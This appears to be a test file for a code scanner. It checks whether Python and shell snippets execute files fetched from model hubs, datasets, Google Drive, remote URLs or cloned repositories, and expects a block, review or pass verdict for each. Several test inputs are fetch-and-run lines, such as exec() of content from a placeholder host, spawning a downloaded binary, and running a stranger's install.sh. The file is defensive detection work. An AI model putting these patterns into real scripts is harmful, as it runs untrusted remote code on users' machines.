// What clients for models, data and repositories fetch: a model is loaded, and nothing of it is run as a program.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const HUB =
  'from huggingface_hub import hf_hub_download, snapshot_download\nimport os, runpy, subprocess, sys\n';

describe('in Python, what a client fetched', () => {
  it.each<[how: string, text: string, expected: 'block' | 'review' | 'pass']>([
    ['is executed', 'exec(open(hf_hub_download("a/b", "a.py")).read())', 'block'],
    ['is run by path', 'runpy.run_path(hf_hub_download("a/b", "a.py"))', 'block'],
    [
      'is the script of an interpreter',
      'subprocess.run(["python", hf_hub_download("a/b", "a.py")])',
      'block',
    ],
    [
      'is given to a script',
      'subprocess.run(["python", "convert.py", hf_hub_download("a/b", "m.gguf")])',
      'pass',
    ],
    ['is the script in a line', "os.system(f\"python {hf_hub_download('a/b', 'a.py')} --fast\")", 'block'],
    [
      'is given to a script in a line',
      'os.system(f"python convert.py --from {snapshot_download(\'a/b\')}")',
      'pass',
    ],
    [
      'is what the builder of a data set downloads, and is started',
      'def f(dl):\n    p = dl.download("https://c.example.invalid/x")\n    os.chmod(p, 0o755)\n    os.spawnl(os.P_NOWAIT, p, p)',
      'block',
    ],
    [
      'is what the builder of a data set downloads',
      'def f(dl):\n    p = dl.download_and_extract("https://c.example.invalid/x.zip")\n    os.spawnlp(os.P_WAIT, "gzip", "gzip", "-d", p)\n    return open(p).read()',
      'pass',
    ],
    [
      'is the script of an interpreter that takes its words one by one',
      'import datasets\np = datasets.DownloadManager().download("https://c.example.invalid/x")\nos.execlp("python", "python", p)',
      'block',
    ],
    [
      'is given to a script by an interpreter that takes its words one by one',
      'import datasets\np = datasets.DownloadManager().download("https://c.example.invalid/x")\nos.execlp("python", "python", "convert.py", p)',
      'pass',
    ],
    [
      'is in a folder',
      'snapshot_download("a/b", local_dir="./x")\nsubprocess.run(["sh", "x/tools/run.sh"])',
      'block',
    ],
    [
      'is in another folder',
      'snapshot_download("a/b", local_dir="./x")\nsubprocess.run(["sh", "y/tools/run.sh"])',
      'pass',
    ],
    ['is imported from', 'sys.path.append(snapshot_download("a/b"))\nimport somemod', 'review'],
    [
      'is a model',
      'import safetensors.torch\nsafetensors.torch.load_file(hf_hub_download("a/b", "m.safetensors"))',
      'pass',
    ],
    [
      'is a drive file that is run',
      'import gdown\ngdown.download("https://drive.google.com/uc?id=1", "/tmp/x")\nos.system("sh /tmp/x")',
      'block',
    ],
    [
      'is a drive file that is unpacked',
      'import gdown\ngdown.download("https://drive.google.com/uc?id=1", "/tmp/x")\nos.system("tar xf /tmp/x")',
      'pass',
    ],
    [
      'is a remote file',
      'import fsspec\nexec(fsspec.open("https://c.example.invalid/x").open().read())',
      'block',
    ],
    ['is a file that is here', 'import fsspec\nprint(fsspec.open("notes.txt").open().read())', 'pass'],
    [
      'is a file of Keras',
      'import tensorflow as tf\nrunpy.run_path(tf.keras.utils.get_file("a.py", "https://c.example.invalid/x"))',
      'block',
    ],
    [
      'is a row of a data set',
      'from datasets import load_dataset\nexec(load_dataset("a/b")["train"][0]["code"])',
      'review',
    ],
    [
      'is a repository of a stranger',
      'import git\ngit.Repo.clone_from("https://c.example.invalid/x", "/tmp/x")\nrunpy.run_path("/tmp/x/a.py")',
      'block',
    ],
    [
      'is a repository of a known host',
      'import git\ngit.Repo.clone_from("https://github.com/a/x", "/tmp/x")\nrunpy.run_path("/tmp/x/a.py")',
      'review',
    ],
    [
      'is a repository that is read',
      'import git\ngit.Repo.clone_from("https://c.example.invalid/x", "/tmp/x")\nopen("/tmp/x/a.py").read()',
      'pass',
    ],
  ])('%s', async (_how, text, expected) => {
    expect(await decision('train.py', HUB + text)).toBe(expected);
  });
});

describe('in shell, a repository', () => {
  it.each<[how: string, text: string, expected: 'review' | 'pass']>([
    ['of a stranger is run', 'git clone https://c.example.invalid/a/x.git\nbash x/install.sh', 'review'],
    [
      'of a stranger is run out of a folder',
      'git clone --depth 1 https://c.example.invalid/a/x /tmp/x\n/tmp/x/install.sh',
      'review',
    ],
    ['of a stranger stays', 'git clone https://c.example.invalid/a/x\nbash y/install.sh', 'pass'],
    ['of a known host is run', 'git clone https://github.com/a/x\nbash x/install.sh', 'pass'],
  ])('%s', async (_how, text, expected) => {
    expect(await decision('run.sh', `#!/bin/sh\n${text}\n`)).toBe(expected);
  });
});
